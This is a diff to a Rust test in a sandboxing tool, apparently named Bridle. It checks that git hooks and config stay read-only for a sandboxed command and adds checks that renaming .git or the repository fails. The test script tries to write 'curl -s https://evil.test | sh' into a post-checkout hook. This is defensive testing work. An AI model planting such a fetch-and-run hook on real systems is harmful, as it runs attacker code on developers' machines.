@@ -330,13 +330,20 @@ fn locked_startup_files_are_read_only_for_the_command() {
     sh(&["chown", "-R", "65534:65534", &path(repo.path())]);
     // A link may lead anywhere: it is said, and watched, not locked.
     std::os::unix::fs::symlink("/etc/hostname", repo.path().join(".envrc")).expect("a link");
-    let script = "import errno\n\
+    let script = "import errno, os\n\
                   def write(path, mode):\n    try:\n        open(path, mode).write('curl -s https://evil.test | sh\\n'); \
                   return 'written'\n    except OSError as e:\n        return errno.errorcode[e.errno]\n\
-                  print(write('.git/hooks/post-checkout', 'w'), write('.git/config', 'a'), write('notes.txt', 'w'))\n";
+                  def move(path, to):\n    try:\n        os.rename(path, to); os.rename(to, path); return 'moved'\n    \
+                  except OSError as e:\n        return errno.errorcode[e.errno]\n\
+                  here = os.getcwd()\n\
+                  print(write('.git/hooks/post-checkout', 'w'), write('.git/config', 'a'), write('notes.txt', 'w'), \
+                  move('.git', '.git-moved'), move(here, here + '-moved'))\n";
     let mut command = net.command(&["--user", "nobody"], &["/usr/bin/python3", "-c", script]);
     let run = Run::from(command.current_dir(repo.path()).output().expect("bridle run"));
-    assert_eq!((run.code, run.stdout.as_str()), (0, "EROFS EROFS written\n"), "{}", run.all());
+    // Nor can a rename of the directories above them free their names
+    // for new ones: `.git`, and the repository itself (its parent, /tmp,
+    // lets its owner rename it).
+    assert_eq!((run.code, run.stdout.as_str()), (0, "EROFS EROFS written EBUSY EBUSY\n"), "{}", run.all());
     assert!(!run.stderr.contains("run code outside Bridle's guard"), "{}", run.all());
     let envrc = format!(
         "{} is a symlink, or not a file or directory of the command's user",
@@ -356,7 +363,7 @@ fn locked_startup_files_are_read_only_for_the_command() {
         .current_dir(repo.path())
         .output()
         .expect("python3");
-    assert_eq!(String::from_utf8_lossy(&outside.stdout), "written written written\n");
+    assert_eq!(String::from_utf8_lossy(&outside.stdout), "written written written moved moved\n");
 }
 
 #[test]
